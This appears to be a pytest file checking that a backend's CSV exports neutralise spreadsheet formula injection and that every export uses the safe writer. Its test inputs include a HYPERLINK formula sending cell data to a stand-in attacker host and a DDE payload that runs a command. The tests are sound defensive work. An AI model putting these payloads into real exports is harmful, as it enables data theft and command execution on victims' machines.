"""CSV exports neutralise spreadsheet formulas (one helper for every CSV the API writes); numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from backend.api.services.csv_cells import SafeCsvWriter, safe_cell

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "=", "-", "-neg", "+", "@",
])
def test_formula_starts_get_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [
    -3, -0.25, 0, 12, 1.5e-7, None, True, "-3", "-0.250000", "+7", "-1e-05", ".5", "1e+5", "plain text",
    " =1 (a leading space is no formula)", "", "neg", "a=b",
])
def test_numbers_and_harmless_text_go_out_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_the_writer_quotes_cells_like_csv_writer_does() -> None:
    buf = io.StringIO()
    SafeCsvWriter(buf).writerows([["key", "label", "score"], ["=HYPERLINK(\"x\")", "-neg", -3], ["a,b", "pos", 0.5]])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [
        ["key", "label", "score"], ["'=HYPERLINK(\"x\")", "'-neg", "-3"], ["a,b", "pos", "0.5"]]


def test_every_csv_the_backend_writes_goes_through_the_helper() -> None:
    """A new export that calls csv.writer directly would skip the neutralising: none may."""
    direct = []
    for path in (ROOT / "backend").rglob("*.py"):
        if path.name == "csv_cells.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()):
            direct.append(str(path.relative_to(ROOT)))
    assert direct == [], "write CSV with backend.api.services.csv_cells.SafeCsvWriter"
